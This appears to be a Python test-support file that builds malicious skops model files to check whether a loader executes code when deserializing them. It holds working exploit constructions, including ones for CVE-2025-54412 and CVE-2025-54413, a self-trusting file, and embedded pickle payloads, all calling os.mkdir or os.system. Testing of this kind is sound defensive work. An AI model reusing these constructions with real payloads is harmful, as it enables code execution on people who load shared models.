"""Files of skops that ask for more than a model."""

from __future__ import annotations

import json
import pickle
from pathlib import Path
from typing import Any

from support.attacks.making import (
    Payload,
    attack,
    sklearn_model,
    zip_of,
)
from support.attacks.pickles import object_array

# skops


def skops_file(tree: dict[str, Any], **members: bytes) -> bytes:
    return zip_of(
        {"schema.json": json.dumps({"protocol": 2, "_skops_version": "0.16.0", **tree}), **members}
    )


def skops_text(text: str) -> dict[str, Any]:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(text),
    }


def skops_tuple(*content: Any) -> dict[str, Any]:
    return {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": list(content),
    }


def skops_call(marker: Path) -> dict[str, Any]:
    """``os.mkdir(marker)`` for a loader who trusts the names in it."""
    return {
        "__class__": "mkdir", "__module__": "os", "__loader__": "ConstructorFromReduceNode",
        "content": skops_tuple(skops_text(str(marker))), "__id__": 1,
    }  # fmt: skip


@attack
def skops_that_brings_its_own_trust(folder: Path, marker: Path) -> None:
    """MLmodel lists as trusted what the file asks for."""
    sklearn_model(
        folder, "model.skops", skops_file(skops_call(marker)), skops_trusted_types=["os.mkdir", "builtins.tuple"]
    )  # fmt: skip


@attack
def skops_operator(folder: Path, marker: Path) -> None:
    """CVE-2025-54412: a call that is named as an estimator."""
    tree = {
        "__class__": "call", "__module__": "sklearn.linear_model._stochastic_gradient.SGDRegressor",
        "__loader__": "OperatorFuncNode",
        "attrs": skops_tuple(
            {"__class__": "mkdir", "__module__": "os", "__loader__": "TypeNode", "__id__": 5}, skops_text(str(marker))
        ),
        "__id__": 10,
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree))


@attack
def skops_method(folder: Path, marker: Path) -> None:
    """CVE-2025-54413: a method whose object is another than it says."""
    tree = {
        "__class__": "builtin_function_or_method", "__module__": "builtins", "__loader__": "MethodNode",
        "content": {
            "func": "mkdir",
            "obj": {"__class__": "os", "__module__": "sys", "__loader__": "TypeNode", "__id__": 2},
        },
        "__id__": 3,
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree))


@attack
def skops_partial(folder: Path, marker: Path) -> None:
    tree = {
        "__class__": "partial", "__module__": "functools", "__loader__": "PartialNode",
        "content": {
            "func": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"},
            "args": skops_tuple(skops_text("true")),
            "kwds": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {},
                     "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}},
            "namespace": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {},
                          "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}},
        },
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree))


@attack
def skops_with_a_pickled_array(folder: Path, marker: Path) -> None:
    tree = {
        "__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "1.npy",
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree, **{"1.npy": object_array(marker)}))


@attack
def skops_with_a_pickle_in_it(folder: Path, marker: Path) -> None:
    sklearn_model(
        folder, "model.skops", skops_file(skops_text("harmless"), **{"more.bin": pickle.dumps(Payload(marker))})
    )  # fmt: skip
